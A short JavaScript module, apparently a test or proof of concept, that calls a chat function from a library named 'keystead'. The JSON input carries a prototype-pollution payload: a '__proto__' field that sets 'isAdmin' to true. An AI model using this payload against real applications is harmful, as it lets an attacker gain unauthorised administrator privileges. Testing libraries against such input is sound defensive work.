import { ai } from 'keystead';

export default function run() {
  return ai.chat(JSON.parse('{"model":"any","messages":[],"__proto__":{"isAdmin":true}}')).text();
}
